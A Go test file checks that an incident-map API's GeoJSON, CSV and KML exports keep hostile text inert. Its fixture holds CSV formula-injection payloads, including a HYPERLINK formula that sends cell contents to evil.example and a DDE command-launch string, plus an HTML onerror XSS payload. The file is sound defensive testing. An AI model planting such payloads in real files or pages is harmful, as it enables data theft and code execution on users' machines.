package api

import (
	"encoding/json"
	"encoding/xml"
	"html"
	"net/http"
	"strings"
	"testing"

	"github.com/incidentmap/incidentmap/api/cache"
	"github.com/incidentmap/incidentmap/fixtures"
	"github.com/incidentmap/incidentmap/geo"
)

// hostileText is text an attacker could put in a data file, by the field
// it goes in: spreadsheet formulas and HTML.
var hostileText = map[string]string{
	"title":    `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"place":    "+SUM(1,2)",
	"admin1":   "-2+3",
	"place_ar": "@cmd|' /C calc'!A0",
	"summary":  `<img src=x onerror="alert(1)"><b>bold</b> & more`,
	"quote":    "\t=1+1",
}

// hostileServer serves the fixtures with the first incident's text
// replaced by hostileText.
func hostileServer(t *testing.T) (*Server, string) {
	t.Helper()
	var fc map[string]any
	if err := json.Unmarshal(fixtures.Incidents, &fc); err != nil {
		t.Fatal(err)
	}
	f := fc["features"].([]any)[0].(map[string]any)
	p := f["properties"].(map[string]any)
	for _, k := range []string{"title", "place", "admin1", "place_ar", "summary"} {
		p[k] = hostileText[k]
	}
	p["sources"].([]any)[0].(map[string]any)["quote"] = hostileText["quote"]
	data, err := json.Marshal(fc)
	if err != nil {
		t.Fatal(err)
	}
	ds, err := geo.NewDataset(data, fixtures.Sites)
	if err != nil {
		t.Fatalf("hostile text is valid data, and must load: %v", err)
	}
	return New(Config{Data: ds, Cache: cache.New(8<<20, nil)}), f["id"].(string)
}

// Hostile text goes out of every export as text: GeoJSON as it is, CSV
// with formulas neutralised, KML with its description escaped so that
// viewers, which render descriptions as HTML, show the text.
func TestExportsKeepHostileTextAsText(t *testing.T) {
	s, id := hostileServer(t)

	t.Run("geojson", func(t *testing.T) {
		rec := get(t, s, itemsPath+"/"+id)
		var f struct {
			Properties struct {
				Title, Summary string
				Sources        []struct{ Quote string }
			}
		}
		decodeJSON(t, rec.Body, &f)
		if f.Properties.Title != hostileText["title"] || f.Properties.Summary != hostileText["summary"] ||
			f.Properties.Sources[0].Quote != hostileText["quote"] {
			t.Errorf("GeoJSON changed the text: %+v", f.Properties)
		}
	})

	t.Run("csv", func(t *testing.T) {
		rows := getCSV(t, s, itemsPath+"?f=csv")
		col := map[string]int{}
		for i, name := range rows[0] {
			col[name] = i
		}
		var row []string
		for _, r := range rows[1:] {
			if r[col["id"]] == id {
				row = r
			}
		}
		if row == nil {
			t.Fatalf("no row for %s", id)
		}
		for field, column := range map[string]string{"title": "title", "place": "place", "admin1": "admin1",
			"place_ar": "place_ar", "quote": "source_quote"} {
			if got, want := row[col[column]], "'"+hostileText[field]; got != want {
				t.Errorf("%s: cell %q, want %q", column, got, want)
			}
		}
		if got := row[col["summary"]]; got != hostileText["summary"] {
			t.Errorf("summary %q: text that starts no formula must stay as it is", got)
		}
		for _, r := range rows[1:] {
			for i, cell := range r {
				if cell == "" || rows[0][i] == "lon" || rows[0][i] == "lat" {
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s of %s starts a formula: %q", rows[0][i], r[0], cell)
				}
			}
		}
	})

	t.Run("kml", func(t *testing.T) {
		rec := get(t, s, itemsPath+"?f=kml")
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d", rec.Code)
		}
		var doc struct {
			Placemarks []struct {
				Name        string `xml:"name"`
				Description string `xml:"description"`
			} `xml:"Document>Placemark"`
		}
		if err := xml.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		found := false
		for _, p := range doc.Placemarks {
			if strings.ContainsRune(p.Description, '<') {
				t.Errorf("description %q would be HTML in a KML viewer", p.Description)
			}
			if p.Name == hostileText["title"] {
				found = true
				if html.UnescapeString(p.Description) != hostileText["summary"] {
					t.Errorf("description %q does not read back as the summary", p.Description)
				}
			}
		}
		if !found {
			t.Errorf("no placemark named %q", hostileText["title"])
		}
	})
}
